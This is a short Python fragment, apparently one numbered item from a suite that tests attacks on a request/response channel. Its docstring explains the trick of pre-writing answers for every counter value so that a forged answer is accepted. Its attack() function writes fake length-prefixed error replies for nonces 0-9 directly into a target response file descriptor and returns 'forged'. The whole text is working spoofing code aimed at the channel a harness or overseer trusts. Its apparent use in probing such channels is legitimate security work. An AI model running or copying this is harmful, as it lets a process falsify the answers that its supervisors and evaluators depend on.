"""065 protocol: write answers before the questions come, for every number that a counter could have.

Evidence: said - a forged answer is taken for the answer.
Control: channel
"""


def attack():
    import json
    import struct

    for nonce in [*range(10), *map(str, range(10))]:
        error = {"type": "RuntimeError", "message": won(), "text": won()}
        text = json.dumps({"nonce": nonce, "reply": {"ok": False, "error": error}})
        header = json.dumps({"__metadata__": {"message": text}}).encode()
        os.write(TARGETS["response_fd"], struct.pack("<Q", len(header)) + header)
    return "forged"
